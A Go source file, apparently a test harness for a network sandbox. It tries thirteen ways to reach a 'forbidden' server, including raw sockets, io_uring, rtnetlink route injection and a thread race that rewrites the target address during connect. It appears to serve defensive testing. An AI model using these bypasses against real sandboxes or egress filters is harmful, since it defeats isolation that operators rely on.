package attack

import (
	"encoding/binary"
	"errors"
	"net"
	"net/netip"
	"sync/atomic"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Secret is what the servers under attack say to whoever reaches them.
const Secret = "the secret"

// network are ways to reach a server at an address and a port. All but the last
// aim at "ADDRESS:PORT".
func network() []Attack {
	return []Attack{
		{"reach by connect", func(aim string) error { return reach(aim, unix.SOCK_STREAM, plainly) }},
		{"reach as IPv6", func(aim string) error { return reachMapped(aim) }},
		{"reach by fast open", func(aim string) error { return reach(aim, unix.SOCK_STREAM, fastOpen) }},
		{"reach from a device", reachFromDevice},
		{"reach from another address", func(aim string) error { return reach(aim, unix.SOCK_STREAM, fromAddress) }},
		{"reach by a new route", reachByRoute},
		{"reach by a ring", func(aim string) error { return reach(aim, unix.SOCK_STREAM, byRing) }},
		{"reach by sendto", func(aim string) error { return reach(aim, unix.SOCK_DGRAM, bySendto) }},
		{"reach by sendmsg", func(aim string) error { return reach(aim, unix.SOCK_DGRAM, bySendmsg) }},
		{"reach by sendmmsg", func(aim string) error { return reach(aim, unix.SOCK_DGRAM, bySendmmsg) }},
		{"reach by a connected datagram", func(aim string) error { return reach(aim, unix.SOCK_DGRAM, connectedDatagram) }},
		{"reach by a raw packet", reachRaw},
		{"reach by rewriting the address", reachByRewriting},
	}
}

// reach begins an exchange and wants the secret in return.
func reach(aim string, kind int, begin func(fd int, to *unix.RawSockaddrInet4) error) error {
	to, err := socketAddress(aim)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET, kind|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := begin(fd, to); err != nil {
		return err
	}
	return hear(fd)
}

// hear waits for the secret.
func hear(fd int) error {
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 2}); err != nil {
		return err
	}
	text := make([]byte, 100)
	n, err := unix.Read(fd, text)
	switch {
	case err != nil:
		return err
	case string(text[:n]) == Secret:
		return nil
	case n == 0:
		return unix.ECONNRESET
	}
	return ErrNotFound
}

func socketAddress(aim string) (*unix.RawSockaddrInet4, error) {
	at, err := netip.ParseAddrPort(aim)
	if err != nil {
		return nil, err
	}
	return rawAddress(at), nil
}

func rawAddress(at netip.AddrPort) *unix.RawSockaddrInet4 {
	to := &unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: at.Addr().As4()}
	binary.BigEndian.PutUint16((*[2]byte)(unsafe.Pointer(&to.Port))[:], at.Port())
	return to
}

func plainly(fd int, to *unix.RawSockaddrInet4) error {
	_, err := call(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(to)), unsafe.Sizeof(*to))
	return err
}

func fastOpen(fd int, to *unix.RawSockaddrInet4) error {
	return send(fd, to, unix.MSG_FASTOPEN)
}

func bySendto(fd int, to *unix.RawSockaddrInet4) error { return send(fd, to, 0) }

func send(fd int, to *unix.RawSockaddrInet4, flags uintptr) error {
	text := []byte("x")
	_, err := call(unix.SYS_SENDTO, uintptr(fd), uintptr(unsafe.Pointer(&text[0])), 1, flags, uintptr(unsafe.Pointer(to)), unsafe.Sizeof(*to))
	return err
}

func connectedDatagram(fd int, to *unix.RawSockaddrInet4) error {
	if err := plainly(fd, to); err != nil {
		return err
	}
	_, err := unix.Write(fd, []byte("x"))
	return err
}

func bySendmsg(fd int, to *unix.RawSockaddrInet4) error {
	header := messageTo(to)
	_, err := call(unix.SYS_SENDMSG, uintptr(fd), uintptr(unsafe.Pointer(header)), 0)
	return err
}

func bySendmmsg(fd int, to *unix.RawSockaddrInet4) error {
	several := struct {
		header unix.Msghdr
		sent   uint32
		_      uint32
	}{header: *messageTo(to)}
	_, err := call(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&several)), 1, 0)
	return err
}

func messageTo(to *unix.RawSockaddrInet4) *unix.Msghdr {
	text := []byte("x")
	vector := &unix.Iovec{Base: &text[0]}
	vector.SetLen(1)
	header := &unix.Msghdr{Name: (*byte)(unsafe.Pointer(to)), Namelen: uint32(unsafe.Sizeof(*to)), Iov: vector}
	header.SetIovlen(1)
	return header
}

// reachFromDevice connects by each device there is.
func reachFromDevice(aim string) error {
	devices, err := net.Interfaces()
	if err != nil {
		return err
	}
	err = unix.ENODEV
	for _, d := range devices {
		if d.Flags&net.FlagUp == 0 {
			continue
		}
		err = reach(aim, unix.SOCK_STREAM, func(fd int, to *unix.RawSockaddrInet4) error {
			patience := &unix.Timeval{Sec: 1}
			if err := errors.Join(unix.BindToDevice(fd, d.Name), unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, patience)); err != nil {
				return err
			}
			return plainly(fd, to)
		})
		if err == nil {
			return nil
		}
	}
	return err
}

// fromAddress connects from each of the addresses that are its own.
func fromAddress(fd int, to *unix.RawSockaddrInet4) error {
	addresses, err := net.InterfaceAddrs()
	if err != nil {
		return err
	}
	err = unix.EADDRNOTAVAIL
	for _, a := range addresses {
		prefix, parseErr := netip.ParsePrefix(a.String())
		if parseErr != nil || !prefix.Addr().Is4() {
			continue
		}
		if bound := unix.Bind(fd, &unix.SockaddrInet4{Addr: prefix.Addr().As4()}); bound != nil && bound != unix.EINVAL { // bound already
			return bound
		}
		if err = plainly(fd, to); err == nil {
			return nil
		}
	}
	return err
}

// byRing has io_uring connect (IORING_OP_CONNECT, Linux 5.5).
func byRing(fd int, to *unix.RawSockaddrInet4) error {
	const opConnect = 16
	return submit(submission{opcode: opConnect, fd: int32(fd), address: uint64(uintptr(unsafe.Pointer(to))), offset: uint64(unsafe.Sizeof(*to))})
}

func reachMapped(aim string) error {
	at, err := netip.ParseAddrPort(aim)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, &unix.SockaddrInet6{Addr: at.Addr().As16(), Port: int(at.Port())}); err != nil {
		return err
	}
	return hear(fd)
}

// reachByRoute makes every address a neighbour's, by each device, and connects. A
// network that leads there as it is keeps its routes.
func reachByRoute(aim string) error {
	if reach(aim, unix.SOCK_STREAM, plainly) == nil {
		return nil
	}
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	devices, err := net.Interfaces()
	if err != nil {
		return err
	}
	for _, d := range devices {
		if d.Flags&net.FlagUp == 0 || d.Flags&net.FlagLoopback != 0 {
			continue
		}
		if err := addRoute(fd, d.Index); err != nil && err != unix.EEXIST {
			return err
		}
		if err := reach(aim, unix.SOCK_STREAM, plainly); err == nil {
			return nil
		}
	}
	return reach(aim, unix.SOCK_STREAM, plainly)
}

// addRoute adds a route for everything by a link (rtnetlink(7)).
func addRoute(fd, link int) error {
	message := make([]byte, 0, 36)
	message = binary.NativeEndian.AppendUint32(message, 36)
	message = binary.NativeEndian.AppendUint16(message, unix.RTM_NEWROUTE)
	message = binary.NativeEndian.AppendUint16(message, unix.NLM_F_REQUEST|unix.NLM_F_ACK|unix.NLM_F_CREATE|unix.NLM_F_APPEND)
	message = append(message, make([]byte, 8)...)
	message = append(message, unix.AF_INET, 0, 0, 0, unix.RT_TABLE_MAIN, unix.RTPROT_STATIC, unix.RT_SCOPE_LINK, unix.RTN_UNICAST, 0, 0, 0, 0)
	message = binary.NativeEndian.AppendUint16(message, 8)
	message = binary.NativeEndian.AppendUint16(message, unix.RTA_OIF)
	message = binary.NativeEndian.AppendUint32(message, uint32(link))
	if err := unix.Sendto(fd, message, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	answer := make([]byte, 1000)
	n, err := unix.Read(fd, answer)
	if err != nil || n < 20 {
		return errors.Join(err, ErrNotFound)
	}
	if errno := -int32(binary.NativeEndian.Uint32(answer[16:])); errno != 0 {
		return unix.Errno(errno)
	}
	return nil
}

// reachRaw sends a datagram that it has written itself, header and all, and
// listens for the answer with a socket of the usual kind.
func reachRaw(aim string) error {
	to, err := socketAddress(aim)
	if err != nil {
		return err
	}
	ear, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(ear)
	if err := unix.Bind(ear, &unix.SockaddrInet4{}); err != nil {
		return err
	}
	name, err := unix.Getsockname(ear)
	if err != nil {
		return err
	}
	raw, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_UDP)
	if err != nil {
		return err
	}
	defer unix.Close(raw)
	datagram := binary.BigEndian.AppendUint16(nil, uint16(name.(*unix.SockaddrInet4).Port))
	datagram = append(datagram, (*[2]byte)(unsafe.Pointer(&to.Port))[:]...)
	datagram = append(datagram, 0, 9, 0, 0, 'x') // length, no checksum
	if err := unix.Sendto(raw, datagram, 0, &unix.SockaddrInet4{Addr: to.Addr}); err != nil {
		return err
	}
	return hear(ear)
}

// reachByRewriting connects to an allowed address again and again while another
// thread exchanges it for the forbidden one: aim is "FORBIDDEN|ALLOWED".
func reachByRewriting(aim string) error {
	first, second := split(aim)
	forbidden, err := netip.ParseAddrPort(first)
	if err != nil {
		return err
	}
	resolved, err := net.ResolveTCPAddr("tcp4", second)
	if err != nil {
		return err
	}
	addresses := [2]unix.RawSockaddrInet4{*rawAddress(resolved.AddrPort()), *rawAddress(forbidden)}
	shared := new(unix.RawSockaddrInet4)
	*shared = addresses[0]
	words := (*[2]uint64)(unsafe.Pointer(shared))
	var stop atomic.Bool
	defer stop.Store(true)
	go func() {
		for i := 0; !stop.Load(); i++ {
			atomic.StoreUint64(&words[0], *(*uint64)(unsafe.Pointer(&addresses[i&1])))
		}
	}()
	err = ErrNotFound
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
		if err = reachShared(shared); err == nil {
			return nil
		}
	}
	return err
}

func reachShared(to *unix.RawSockaddrInet4) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := plainly(fd, to); err != nil {
		return err
	}
	return hear(fd)
}
